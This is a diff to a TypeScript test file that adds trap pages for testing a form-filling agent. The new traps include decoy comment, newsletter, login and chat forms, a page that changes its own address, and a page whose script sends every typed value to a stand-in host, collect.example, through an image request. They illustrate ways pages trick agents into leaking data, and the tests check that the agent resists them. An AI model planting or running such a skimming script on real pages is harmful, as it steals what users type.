@@ -91,6 +91,30 @@ const sending = (how: string, act: string, why: string): Trap =>
     ['b', 'c'],
   );
 
+/** Runs as soon as the guide is there, before anybody has pressed anything. */
+const onceGuided = (act: string) =>
+  script(
+    `new MutationObserver((_, all) => { if (document.querySelector('banken-test')) { all.disconnect(); ${act} } }).observe(document.body, { childList: true });`,
+  );
+
+const besideForms = {
+  'public comments': `<form action="/comment"><h2>コメントを投稿（公開）</h2>${name}<button>送信</button></form>`,
+  'comments, told by its button': `<form action="/comment">${name}<button>コメントを投稿する</button></form>`,
+  news: `<form action="/news"><h2>メールマガジン登録</h2>${name}<button>登録</button></form>`,
+  'an account': `<form action="/in"><h2>ログイン</h2>${name}<input type="password"></form>`,
+  'a public chat': `<div role="dialog" aria-label="チャット"><h2>チャットで質問（公開）</h2>${name}</div>`,
+};
+
+const besides: readonly Trap[] = Object.entries(besideForms).map(([what, html]) => ({
+  name: `a form of ${what} beside the report`,
+  html: `${html}<form action="/ok">${mail}${link}</form>`,
+  told: 'left empty, and the report filled',
+  fault({ values }) {
+    if (values['a'] !== '') return `got ${values['a']}`;
+    return values['b'] === honest.email ? undefined : 'the report was not filled';
+  },
+}));
+
 /** Forms on the official host that exchange, send or lead away what is written. */
 export const actingTraps: readonly Trap[] = [
   ...sendingElsewhere,
@@ -119,6 +143,25 @@ export const actingTraps: readonly Trap[] = [
       w.insertAdjacentHTML('beforeend', '<div style="position:absolute;inset:-9px;background:#fff"></div>'); });`)}`,
     told: 'gets nothing',
     fault: ({ values }) => (values['a'] === '' ? undefined : `got ${values['a']}`),
+  },
+  ...besides,
+  {
+    name: 'a page that gives itself another address before the press',
+    html: `${name}${mail}${onceGuided("history.pushState({}, '', '/another-form')")}`,
+    told: 'nothing is filled at the first press, and why',
+    fault: ({ values, stopped }) =>
+      Object.values(values).some((value) => value !== '') || stopped?.why !== 'moved'
+        ? `stopped: ${stopped?.why}`
+        : undefined,
+  },
+  {
+    name: 'a page that sends each value to another site by an address',
+    html: `${name}${mail}${link}${script("addEventListener('input', ({ target }) => { new Image().src = 'https://collect.example/p?v=' + encodeURIComponent(target.value); }, true)")}`,
+    told: 'the filling ends, and the site is named',
+    fault: ({ stopped, calls }) =>
+      stopped?.why === 'called' && calls?.includes('collect.example')
+        ? undefined
+        : `stopped: ${stopped?.why}, named ${calls?.join()}`,
   },
   sending('as a press of its button would', 'f.requestSubmit()', 'submitted'),
   sending('without an event', 'f.submit()', 'submitted'),
